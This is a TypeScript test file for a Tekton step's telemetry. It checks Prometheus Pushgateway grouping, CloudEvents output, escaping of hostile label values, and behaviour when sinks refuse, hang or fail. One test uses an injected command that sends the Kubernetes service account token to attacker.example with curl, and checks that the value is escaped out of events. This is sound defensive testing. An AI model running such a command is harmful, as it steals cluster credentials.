// Telemetry from a step to a real Prometheus Pushgateway (Debian's, on
// loopback) and to a loopback CloudEvents sink, through the Telemetry class
// the step programs use; then the faults: a sink that refuses, hangs or
// answers 500, failing open and failing closed.
import t from 'tap';
import { PassThrough } from 'node:stream';
import { HTTP } from 'cloudevents';
import { isCatalogError } from '../../src/errors.ts';
import { boundedText } from '../../src/telemetry/bounded-text.ts';
import { TelemetryEnv } from '../../src/telemetry/config.ts';
import { Metrics } from '../../src/telemetry/metrics.ts';
import { groupingPath, pushUrl, PUSHGATEWAY_JOB } from '../../src/telemetry/pushgateway/push.ts';
import { send } from '../../src/telemetry/http/send.ts';
import { Telemetry } from '../../src/telemetry/telemetry.ts';
import { MAX_EVENTS_PER_RUN, violation, ViolationTypes } from '../../src/telemetry/violations.ts';
import { startSink, type SinkBehaviour } from '../harness/cloudevents-sink.ts';
import { requirePushgateway, startPushgateway, type TestPushgateway } from '../harness/pushgateway.ts';
import { freePort } from '../harness/registry.ts';

function telemetryFor(env: Record<string, string>, program = 'validate-params') {
  const stderr = new PassThrough();
  let log = '';
  stderr.on('data', (chunk: Buffer) => (log += chunk.toString()));
  const telemetry = new Telemetry(program, stderr);
  telemetry.configure(env);
  return { telemetry, log: () => log, lines: () => log.split('\n').filter((line) => line !== '' && !line.startsWith('metrics: ')) };
}

const run = (uid: string, extra: Record<string, string> = {}) => ({
  [TelemetryEnv.taskRunName]: `build-${uid.slice(0, 5)}-validate`,
  [TelemetryEnv.taskRunNamespace]: 'team-a',
  [TelemetryEnv.taskRunUid]: uid,
  [TelemetryEnv.retryCount]: '0',
  ...extra,
});

let gateway: TestPushgateway | undefined;
t.before(async () => {
  if (requirePushgateway({ fail: () => {}, skip: () => {} })) gateway = await startPushgateway();
});
t.teardown(async () => gateway?.stop());

t.test('concurrent TaskRuns push to groups of their own, and a sum over groups adds them up', async (t) => {
  if (!requirePushgateway(t)) return;
  await gateway!.wipe();
  const runs = Array.from({ length: 12 }, (_, i) => ({ uid: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, failures: i + 1 }));
  await Promise.all(
    runs.map(async ({ uid, failures }) => {
      const { telemetry, lines } = telemetryFor({ [TelemetryEnv.pushgatewayUrl]: gateway!.url, ...run(uid) });
      for (let i = 0; i < failures; i++) telemetry.count(Metrics.paramValidationFailures, { task: 'validate', param: 'git-revision' });
      await telemetry.flush();
      t.same(lines(), ['validate-params: telemetry: Pushgateway ' + JSON.stringify(`${gateway!.url}/`) + ': pushed 1 sample(s)'], `run ${uid}: one line`);
    }),
  );
  const samples = await gateway!.samples(Metrics.paramValidationFailures);
  t.equal(samples.length, runs.length, 'one series per run: none overwrote another');
  t.equal(
    samples.reduce((sum, s) => sum + s.value, 0),
    runs.reduce((sum, r) => sum + r.failures, 0),
    'sum by (task, param) over the groups is the total',
  );
  for (const { uid, failures } of runs) {
    const sample = samples.find((s) => s.labels.taskrun_uid === uid);
    t.same(sample?.labels, { job: PUSHGATEWAY_JOB, instance: '', namespace: 'team-a', taskrun: `build-${uid.slice(0, 5)}-validate`, taskrun_uid: uid, retry: '0', step: 'validate-params', task: 'validate', param: 'git-revision' });
    t.equal(sample?.value, failures);
  }
});

t.test('a retried TaskRun and a second step in the same TaskRun keep their own groups', async (t) => {
  if (!requirePushgateway(t)) return;
  await gateway!.wipe();
  const uid = '11111111-2222-4333-8444-555555555555';
  for (const [retry, program] of [['0', 'workspace-guard'], ['1', 'workspace-guard'], ['1', 'inject-credentials']] as const) {
    const { telemetry } = telemetryFor({ [TelemetryEnv.pushgatewayUrl]: gateway!.url, ...run(uid, { [TelemetryEnv.retryCount]: retry }) }, program);
    telemetry.count(Metrics.workspaceAccessViolations, { task: 'guard', workspace: 'source' }, 2);
    await telemetry.flush();
  }
  const samples = await gateway!.samples(Metrics.workspaceAccessViolations);
  t.same(samples.map((s) => `${s.labels.retry}/${s.labels.step}=${s.value}`).sort(), ['0/workspace-guard=2', '1/inject-credentials=2', '1/workspace-guard=2']);
});

t.test('hostile values reach the Pushgateway intact: label values bounded and escaped, grouping values base64', async (t) => {
  if (!requirePushgateway(t)) return;
  await gateway!.wipe();
  const hostile = ['x"} 999\nevil{a="', 'a\\b', '\u202egnp.exe', 'p/../../metrics/job/x', '%2F%00', 'é😀', '@base64', '=', ' ', '\r\n\t', 'q'.repeat(300)];
  const { telemetry } = telemetryFor({ [TelemetryEnv.pushgatewayUrl]: gateway!.url, ...run('22222222-2222-4222-8222-222222222222') });
  for (const param of hostile) telemetry.count(Metrics.paramValidationFailures, { task: 'validate', param });
  await telemetry.flush();
  const params = (await gateway!.samples(Metrics.paramValidationFailures)).map((s) => s.labels.param).sort();
  t.same(params, hostile.map((p) => boundedText(p, 128)).sort(), 'each value as boundedText made it, read back by an independent parser');

  // Grouping values straight through the path encoding: whatever they hold, the group's labels are exactly them.
  const alphabet = ['/', '.', '%', '2', 'F', '?', '#', '=', '@', ' ', '\\', '"', '\n', 'é', '😀', '\u202e', 'a', '-'];
  let seed = 7;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  const generated = Array.from({ length: 80 }, () => Array.from({ length: 1 + Math.floor(next() * 10) }, () => alphabet[Math.floor(next() * alphabet.length)]).join(''));
  const values = ['', '/', '..', 'a/b/c', '%2F', '?x=1#y', 'é😀', '\u202e', 'job', '=', '@base64', ' ', 'x'.repeat(200), ...generated];
  for (const [i, value] of values.entries()) {
    const url = pushUrl(new URL(gateway!.url), groupingPath(PUSHGATEWAY_JOB, [['taskrun_uid', `case-${i}`], ['step', value]]));
    const controller = new AbortController();
    const answer = await send(url, { method: 'PUT', headers: { 'content-type': 'text/plain; version=0.0.4' }, body: '', signal: controller.signal });
    t.equal(answer.status, 200, `value ${JSON.stringify(value.slice(0, 20))} accepted`);
  }
  const groups = await gateway!.groups();
  for (const [i, value] of values.entries()) {
    const group = groups.find((g) => g.taskrun_uid === `case-${i}`);
    t.equal(group?.step, value, `grouping value ${JSON.stringify(value.slice(0, 20))} read back exactly`);
    t.equal(group?.job, PUSHGATEWAY_JOB);
  }
});

t.test('a clean run pushes nothing, unless it fails closed: then an empty group proves it reported', async (t) => {
  if (!requirePushgateway(t)) return;
  await gateway!.wipe();
  const open = telemetryFor({ [TelemetryEnv.pushgatewayUrl]: gateway!.url, ...run('33333333-3333-4333-8333-333333333333') });
  await open.telemetry.flush();
  t.equal(open.log(), '', 'nothing counted, nothing pushed, nothing said');
  const closed = telemetryFor({ [TelemetryEnv.pushgatewayUrl]: gateway!.url, [TelemetryEnv.failClosed]: 'true', ...run('44444444-4444-4444-8444-444444444444') });
  await closed.telemetry.flush();
  t.match(closed.lines(), [/pushed an empty group/]);
  t.same((await gateway!.groups()).map((g) => g.taskrun_uid), ['44444444-4444-4444-8444-444444444444']);
  const pushTimes = await gateway!.samples('push_time_seconds');
  t.equal(pushTimes.length, 1);
  t.ok(pushTimes[0]!.value > 0, 'push_time_seconds says when it reported');
});

t.test('one structured CloudEvent per violation, valid for the CloudEvents SDK as a receiver', async (t) => {
  const sink = await startSink('accept');
  t.teardown(sink.stop);
  const { telemetry, lines } = telemetryFor({ [TelemetryEnv.cloudEventsSink]: sink.url, ...run('55555555-5555-4555-8555-555555555555') });
  const attack = '$(curl attacker.example -d @/var/run/secrets/kubernetes.io/serviceaccount/token)\u202e\n';
  telemetry.record(violation(ViolationTypes.paramValidationFailed, 'param', { task: 'validate', param: 'image-tag', rule: 'image-tag', reason: 'must match the OCI tag grammar', value: JSON.stringify(attack) }));
  telemetry.record(violation(ViolationTypes.workspaceAccessViolated, 'workspace', { task: 'guard', workspace: 'source', mode: 'verify', rule: 'modified', path: `src/${'\u202e'.repeat(3)}${'d/'.repeat(300)}` }));
  telemetry.record(violation(ViolationTypes.imageVerificationRejected, 'image', { task: 'verify', image: 'registry.example.com/app:1', code: 'REGISTRY_UNREACHABLE', message: 'connection refused', pullError: true }));
  await telemetry.flush();
  t.same(lines(), [`validate-params: telemetry: CloudEvents sink ${JSON.stringify(sink.url)}: sent 3 event(s)`]);
  t.equal(sink.received.length, 3, 'one request per violation');
  const events = sink.received.map((request) => {
    t.equal(request.method, 'POST');
    t.equal(request.headers['content-type'], 'application/cloudevents+json; charset=utf-8', 'structured mode');
    t.ok(Buffer.byteLength(request.body) < 4096, `bounded: ${Buffer.byteLength(request.body)} bytes`);
    t.match(request.body, /^[\x20-\x7e]+$/, 'the body is printable ASCII: no raw attacker character');
    return HTTP.toEvent({ headers: request.headers, body: request.body });
  });
  const byType = new Map(events.map((event) => [Array.isArray(event) ? '' : event.type, event]));
  const param = byType.get(ViolationTypes.paramValidationFailed) as ReturnType<typeof HTTP.toEvent> & { [key: string]: unknown };
  t.match(param, {
    specversion: '1.0',
    type: 'dev.hardened-tekton.param.validation.failed.v1',
    source: '/apis/tekton.dev/v1/namespaces/team-a/taskruns/build-55555-validate',
    subject: 'image-tag',
    datacontenttype: 'application/json',
    data: { task: 'validate', param: 'image-tag', rule: 'image-tag', step: 'validate-params', taskRun: { namespace: 'team-a', name: 'build-55555-validate', uid: '55555555-5555-4555-8555-555555555555', retry: 0 } },
  });
  t.match((param as { id: string }).id, /^[0-9a-f-]{36}$/, 'the SDK gave it a UUID');
  t.notOk(JSON.stringify(param).includes(attack), 'the raw value is not in the event');
  const workspace = byType.get(ViolationTypes.workspaceAccessViolated) as { data: { path: string } };
  t.ok(workspace.data.path.length <= 200, 'paths are bounded');
  t.match(workspace.data.path, /^src\/\\u\{202e\}/, 'and escaped');
  t.match(byType.get(ViolationTypes.imageVerificationRejected), { subject: 'registry.example.com/app:1', data: { code: 'REGISTRY_UNREACHABLE', pullError: true } });
});

t.test('at most 32 events per run; the rest are counted and said', async (t) => {
  const sink = await startSink('accept');
  t.teardown(sink.stop);
  const { telemetry, lines } = telemetryFor({ [TelemetryEnv.cloudEventsSink]: sink.url, ...run('66666666-6666-4666-8666-666666666666') });
  for (let i = 0; i < 50; i++) telemetry.record(violation(ViolationTypes.paramValidationFailed, 'param', { task: 'validate', param: `p${i}` }));
  await telemetry.flush();
  t.equal(sink.received.length, MAX_EVENTS_PER_RUN);
  t.match(lines(), [/sent 32 event\(s\); 18 more violation\(s\) counted but not sent \(at most 32 events per run\)$/]);
});

/** A sink for each fault: a port nobody listens on, a server that never answers, one that answers 500. */
async function faultySink(fault: 'refuse' | SinkBehaviour) {
  if (fault === 'refuse') return { url: `http://127.0.0.1:${await freePort()}/`, closedByClient: () => 0, stop: async () => {} };
  return startSink(fault);
}

const EXPECTED_REASON = { refuse: /connection refused/, hang: /no answer within 2 s/, fail: /HTTP 500: sink exploded\\u\{a\}\\u\{202e\}/ } as const;

for (const fault of ['refuse', 'hang', 'fail'] as const) {
  for (const failClosed of [false, true]) {
    t.test(`a sink that ${fault === 'fail' ? 'answers 500' : fault === 'hang' ? 'hangs' : 'refuses connections'}, telemetry-fail-closed ${failClosed}`, async (t) => {
      const events = await faultySink(fault);
      const counters = await faultySink(fault);
      t.teardown(async () => {
        await events.stop();
        await counters.stop();
      });
      const { telemetry, lines } = telemetryFor({
        [TelemetryEnv.pushgatewayUrl]: counters.url,
        [TelemetryEnv.cloudEventsSink]: events.url,
        [TelemetryEnv.failClosed]: String(failClosed),
        ...run('77777777-7777-4777-8777-777777777777'),
      });
      telemetry.count(Metrics.paramValidationFailures, { task: 'validate', param: 'tag' });
      telemetry.record(violation(ViolationTypes.paramValidationFailed, 'param', { task: 'validate', param: 'tag' }));
      if (failClosed) {
        const error = await telemetry.flush().then(
          () => undefined,
          (e: unknown) => e,
        );
        t.ok(isCatalogError(error) && error.code === 'TELEMETRY_UNDELIVERED', 'fails the step: TELEMETRY_UNDELIVERED (exit 3)');
        t.match((error as Error).message, /telemetry not delivered, and telemetry-fail-closed is "true": Pushgateway .*; CloudEvents sink .*/);
        t.match((error as Error).message, EXPECTED_REASON[fault]);
        t.same(lines(), [], 'the error is the message: runStep prints it');
      } else {
        await telemetry.flush();
        const said = lines();
        t.equal(said.length, 1, 'exactly one line in the log');
        t.match(said[0], /^validate-params: telemetry not delivered, the step goes on \(telemetry-fail-closed is "false"\): Pushgateway .*; CloudEvents sink .*/);
        t.match(said[0], EXPECTED_REASON[fault]);
      }
      if (fault === 'hang') {
        // The server hears of the close a moment after the client made it.
        for (let i = 0; i < 50 && events.closedByClient() + counters.closedByClient() < 2; i++) await new Promise((resolve) => setTimeout(resolve, 20));
        t.equal(events.closedByClient() + counters.closedByClient(), 2, 'the step gave up and closed both connections itself');
      }
    });
  }
}
